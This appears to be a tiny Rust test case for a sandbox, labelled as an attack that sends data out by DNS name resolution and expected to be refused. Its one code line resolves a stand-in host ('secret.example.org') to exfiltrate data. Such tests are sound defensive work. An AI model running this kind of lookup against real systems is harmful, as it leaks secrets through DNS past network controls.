// attack: send data by name resolution
// expect: refused
use std::net::ToSocketAddrs; Ok(Some(format!("{:?}", "secret.example.org:1".to_socket_addrs()?.next())))
